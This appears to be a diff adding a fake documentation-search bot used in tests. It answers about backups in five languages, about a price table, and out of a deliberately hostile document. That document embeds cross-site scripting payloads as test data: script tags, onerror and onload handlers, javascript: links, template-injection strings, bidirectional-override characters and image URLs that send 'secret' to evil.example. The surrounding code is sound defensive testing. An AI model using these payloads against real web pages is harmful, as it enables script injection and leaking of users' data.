@@ -1,0 +1,315 @@
+"""A small bot with the real one's interface, over a few documents in memory; it finds by keyword and never guesses."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from hashlib import sha256
+
+from bot.languages import locale
+from bot.records import (
+    Answer,
+    Citation,
+    Document,
+    Done,
+    Dropped,
+    Event,
+    Evidence,
+    EvidenceFound,
+    LanguageSettled,
+    ModelError,
+    Notice,
+    NoticeGiven,
+    Page,
+    Passage,
+    Question,
+    Sentence,
+    SentenceDropped,
+    SentenceReady,
+    Source,
+    Span,
+    State,
+    Turn,
+)
+
+BACKUP = {
+    "en": """# Backups
+
+## Keeping and restoring
+
+A backup is made every night at 02:00. Each one is kept for 30 days and then deleted. To get a file back, open **History**, choose a day and press *Restore*. Restoring takes 2.5 minutes for a gigabyte.
+""",
+    "sv": """# Säkerhetskopior
+
+## Spara och återställa
+
+En säkerhetskopia görs varje natt klockan 02.00. Varje kopia sparas i 30 dagar och raderas sedan. För att få tillbaka en fil öppnar du **Historik**, väljer en dag och trycker på *Återställ*. Det tar 2,5 minuter att återställa en gigabyte.
+""",
+    "da": """# Sikkerhedskopier
+
+## Gemme og gendanne
+
+Der tages en sikkerhedskopi hver nat klokken 02.00. Hver kopi gemmes i 30 dage og slettes derefter. Du får en fil tilbage ved at åbne **Historik**, vælge en dag og trykke på *Gendan*. Det tager 2,5 minutter at gendanne en gigabyte.
+""",
+    "nl": """# Back-ups
+
+## Bewaren en terugzetten
+
+Elke nacht om 02.00 uur wordt een back-up gemaakt. Elke back-up wordt 30 dagen bewaard en daarna verwijderd. Een bestand haal je terug door **Geschiedenis** te openen, een dag te kiezen en op *Terugzetten* te drukken. Een gigabyte terugzetten duurt 2,5 minuten.
+""",
+    "ms": """# Sandaran
+
+## Menyimpan dan memulihkan
+
+Sandaran dibuat setiap malam pada pukul 02:00. Setiap sandaran disimpan selama 30 hari dan kemudian dipadamkan. Untuk mendapatkan semula fail, buka **Sejarah**, pilih hari dan tekan *Pulihkan*. Pemulihan mengambil masa 2.5 minit bagi setiap gigabait.
+""",
+}
+KEPT = {
+    "en": "Each one is kept for 30 days and then deleted.",
+    "sv": "Varje kopia sparas i 30 dagar och raderas sedan.",
+    "da": "Hver kopi gemmes i 30 dage og slettes derefter.",
+    "nl": "Elke back-up wordt 30 dagen bewaard en daarna verwijderd.",
+    "ms": "Setiap sandaran disimpan selama 30 hari dan kemudian dipadamkan.",
+}
+SPEED = {
+    "en": "Restoring takes 2.5 minutes for a gigabyte.",
+    "sv": "Det tar 2,5 minuter att återställa en gigabyte.",
+    "da": "Det tager 2,5 minutter at gendanne en gigabyte.",
+    "nl": "Een gigabyte terugzetten duurt 2,5 minuten.",
+    "ms": "Pemulihan mengambil masa 2.5 minit bagi setiap gigabait.",
+}
+QUESTIONS = {
+    "en": "How long is a backup kept?",
+    "sv": "Hur länge sparas en säkerhetskopia?",
+    "da": "Hvor længe gemmes en sikkerhedskopi?",
+    "nl": "Hoelang wordt een back-up bewaard?",
+    "ms": "Berapa lama sandaran disimpan?",
+}
+PLANS = """# Plans
+
+| Plan | Storage | Price a month |
+| --- | --- | --- |
+| Small | 50 GB | €2.50 |
+| Large | 500 GB | €9.00 |
+
+Run the program from the command line:
+
+```sh
+keep backup --now
+keep list --days 30
+```
+"""
+HOSTILE = """# Evil <img src=x onerror="alert('title')"> page
+
+## <script>alert('heading')</script>
+
+<script>window.hacked = true; alert(1)</script>
+<img src="http://evil.example/pixel?q=secret" onerror="window.hacked = true">
+![picture](http://evil.example/collect?data=secret) <svg onload=alert(2)> <iframe src="javascript:alert(3)"></iframe>
+[click here](javascript:alert(4)) <a href="javascript:alert(5)">x</a> </mark></blockquote></div> ]](#source-1)
+&lt;script&gt;alert(6)&lt;/script&gt; &amp; ${alert(7)} {{constructor.constructor('alert(8)')()}} `${window.hacked=true}`
+Safe\u202egnihtyna ton si siht\u202c and pay\u200bment\ufeff words, $x^2$ and <style>*{display:none}</style> <base href="http://evil.example/">.
+"""
+COMMON = {
+    "sv": {"hur", "vad", "och", "är", "länge", "sparas", "en", "tar", "återställa"},
+    "da": {"hvor", "hvad", "og", "er", "længe", "gemmes", "en", "hvordan"},
+    "nl": {"hoe", "hoelang", "wat", "een", "het", "wordt", "bewaard", "duurt"},
+    "en": {"how", "what", "the", "is", "a", "long", "kept", "does"},
+    "ms": {"berapa", "lama", "apa", "bagaimana", "disimpan", "adalah", "yang"},
+}
+
+
+def document(path: str, text: str, language: str, title: str, *, original: str | None, state: State) -> Document:
+    """A document as a reader would make it."""
+    link = f"https://docs.example.org/{path}"
+    return Document(path, text, language, language, title, sha256(text.encode()).hexdigest(), original, state, (), link)
+
+
+def passage(of: Document, start: int, group: str | None = None) -> Passage:
+    """The rest of the document from `start`."""
+    headings = tuple(line.lstrip("# ") for line in of.text[:start].splitlines() if line.startswith("#"))
+    end = len(of.text.rstrip())
+    return Passage(f"{of.path}:{start}", of.path, of.language, headings, None, "prose", start, end, group or of.path)
+
+
+def source(of: Document, around: Passage, spans: Sequence[Span], **more: object) -> Source | Citation:
+    """A source over spans of a document; a Citation where a number is given."""
+    kind = Citation if "number" in more else Source
+    return kind(
+        path=of.path,
+        language=of.language,
+        title=of.title,
+        heading_path=around.heading_path,
+        anchor=None,
+        link=of.link,
+        state=of.state,
+        spans=tuple(spans),
+        quote="\n".join(of.text[s:e] for s, e in spans),
+        passage=Span(around.start, around.end),
+        passage_text=of.text[around.start : around.end],
+        content_hash=of.content_hash,
+        **more,  # type: ignore[arg-type]
+    )
+
+
+def found(text: str, words: str) -> Span:
+    start = text.index(words)
+    return Span(start, start + len(words))
+
+
+@dataclass
+class FakeBot:
+    """Answers about backups in five languages, about a table, and out of a hostile document.
+
+    A word in the question chooses what is played: hostile, plans, nothing, broken, crash, slow.
+    """
+
+    title: str = "Example docs"
+    writes: bool = False
+    languages: tuple[str, ...] = ("sv", "da", "nl", "en", "ms")
+    pause: float = 0.0
+
+    def __post_init__(self) -> None:
+        self.heard: list[dict[str, object]] = []
+
+    def stream(
+        self,
+        text: str,
+        *,
+        language: str | None = None,
+        hint: str | None = None,
+        history: Sequence[Turn] = (),
+        write: bool | None = None,
+    ) -> Iterator[Event]:
+        self.heard.append({"text": text, "language": language, "hint": hint, "history": history, "write": write})
+        if "broken" in text:
+            raise ModelError("The model’s server at <localhost> does not answer: start it, or unset KILDE_LLM.")
+        if "crash" in text:
+            raise RuntimeError("secret internals")
+        settled = language or self._language(text, hint, history)
+        yield LanguageSettled(Question(text, settled, "given" if language else "words", tuple(history)))
+        time.sleep(20 if "slow" in text else self.pause)
+        for event in self._events(text, settled, bool(write)):
+            yield event
+            time.sleep(self.pause)
+
+    def _events(self, text: str, language: str, write: bool) -> Iterator[Event]:
+        if "hostile" in text:
+            return self._hostile(text, language)
+        if "plans" in text:
+            return self._plans(text, language)
+        if "nothing" in text:
+            return self._nothing(text, language)
+        return self._backups(text, language, write)
+
+    def _language(self, text: str, hint: str | None, history: Sequence[Turn]) -> str:
+        words = set(text.lower().strip("?!. ").split())
+        best = max(self.languages, key=lambda code: len(words & COMMON[code]))
+        if words & COMMON[best]:
+            return best
+        return (history[-1].language if history else hint) or "en"
+
+    def _backups(self, text: str, language: str, write: bool) -> Iterator[Event]:
+        states: dict[str, State] = {"en": "original", "da": "stale"}
+        original = document("guide/backup.md", BACKUP["en"], "en", "Backups", original=None, state="original")
+        shown = original
+        if language != "en":
+            title = BACKUP[language].splitlines()[0].lstrip("# ")
+            path = f"translations/{language}/guide/backup.md"
+            state = states.get(language, "current")
+            shown = document(path, BACKUP[language], language, title, original=original.path, state=state)
+        start = shown.text.index("\n\n", shown.text.index("## ")) + 2
+        there = passage(shown, start, original.path)
+        theirs = passage(original, original.text.index("A backup"), original.path)
+        yield EvidenceFound((Evidence(there, shown, 0.9, {}, theirs, original),))
+        cited = []
+        for number, words in ((1, KEPT), (2, SPEED)):
+            beside = source(original, theirs, [found(original.text, words["en"])]) if shown is not original else None
+            cited.append(
+                source(
+                    shown,
+                    there,
+                    [found(shown.text, words[language])],
+                    number=number,
+                    passage_id=there.id,
+                    original=beside,
+                )
+            )
+        notices = (Notice("stale", {"page": shown.title}),) if shown.state == "stale" else ()
+        yield from map(NoticeGiven, notices)
+        kind = "written" if write else "quote"
+        lead = locale(language).phrases["answer"][0].replace("{page}", shown.title)
+        sentences = (
+            *(() if write else (Sentence("phrase", lead, language),)),
+            Sentence(kind, KEPT[language], language, (1,), 0.9),
+            Sentence(kind, SPEED[language], language, (2,), 0.8),
+        )
+        dropped = (Dropped("It is kept for 90 <b>days</b>.", "number", {"number": "90"}),) if write else ()
+        yield from self._said(sentences, cited)
+        yield from map(SentenceDropped, dropped)
+        yield Done(self._answer(text, language, sentences, cited, dropped=dropped, notices=notices))
+
+    def _plans(self, text: str, language: str) -> Iterator[Event]:
+        shown = document("plans.md", PLANS, "en", "Plans", original=None, state="original")
+        row, header = found(PLANS, "| Large | 500 GB | €9.00 |"), found(PLANS, "| Plan | Storage | Price a month |")
+        end = PLANS.index("\n\nRun")
+        table = Passage("plans:1", shown.path, "en", ("Plans",), None, "table", row.start, end, "plans", None, header)
+        code = passage(shown, PLANS.index("Run the"))
+        cited = [
+            source(shown, table, [header, row], number=1, passage_id=table.id),
+            source(shown, code, [found(PLANS, "keep backup --now\nkeep list --days 30")], number=2, passage_id=code.id),
+        ]
+        notices = (Notice("other_language", {"language": locale(language).languages["en"]}),) if language != "en" else ()
+        yield EvidenceFound((Evidence(table, shown, 0.7),))
+        yield from map(NoticeGiven, notices)
+        sentences = (
+            Sentence("phrase", locale(language).phrases["answer"][1].replace("{page}", "Plans"), language),
+            Sentence("quote", "Large · 500 GB · €9.00", "en", (1,), 0.8, block=True),
+            Sentence("quote", "keep backup --now\nkeep list --days 30", "en", (2,), 0.8, block=True),
+        )
+        yield from self._said(sentences, cited)
+        yield Done(self._answer(text, language, sentences, cited, notices=notices))
+
+    def _hostile(self, text: str, language: str) -> Iterator[Event]:
+        title, heading = (line.lstrip("# ") for line in HOSTILE.splitlines() if line.startswith("#"))
+        shown = document("evil/<b>x</b>.md", HOSTILE, "en", title, original=None, state="original")
+        start = HOSTILE.index("<script>window")
+        there = Passage("evil:1", shown.path, "en", (title, heading), None, "prose", start, len(HOSTILE), "evil")
+        spans = [Span(start, start + 60), found(HOSTILE, "[click here](javascript:alert(4))")]
+        cited = [source(shown, there, spans, number=1, passage_id=there.id)]
+        bad = Source(**{f: getattr(cited[0], f) for f in Source.__slots__} | {"link": "javascript:alert(9)"})
+        cited = [Citation(**{f: getattr(bad, f) for f in Source.__slots__}, number=1, passage_id="evil:1", original=bad)]
+        yield EvidenceFound((Evidence(there, shown, 0.9),))
+        sentences = tuple(
+            Sentence("quote", line, "en", (1,), 0.5, block=True) for line in HOSTILE.splitlines() if line.strip()
+        )
+        yield from self._said(sentences, cited)
+        page = Page("evil/\u202e.md", title, "en", "javascript:alert(10)")
+        yield Done(self._answer(text, language, sentences, cited, nearest=(page,)))
+
+    def _nothing(self, text: str, language: str) -> Iterator[Event]:
+        words = locale(language).phrases
+        sentences = (
+            Sentence("phrase", words["none"][0], language),
+            Sentence(
+                "phrase",
+                words["searched"].replace("{documents}", "6").replace("{languages}", locale(language).languages[language]),
+                language,
+            ),
+        )
+        yield EvidenceFound(())
+        yield from self._said(sentences, [])
+        nearest = (
+            Page("guide/backup.md", "Backups", "en", "https://docs.example.org/guide/backup.md"),
+            Page("plans.md", "Plans", "en", None),
+        )
+        yield Done(self._answer(text, language, sentences, [], outcome="none", nearest=nearest))
+
+    def _said(self, sentences: Sequence[Sentence], cited: Sequence[Citation]) -> Iterator[Event]:
+        for sentence in sentences:
+            yield SentenceReady(sentence, tuple(c for c in cited if c.number in sentence.citations))
+
+    def _answer(self, text, language, sentences, cited, outcome="answer", **more) -> Answer:  # type: ignore[no-untyped-def]
+        said = " ".join(s.text for s in sentences)
+        return Answer(text, language, said, outcome, tuple(sentences), tuple(cited), **more)
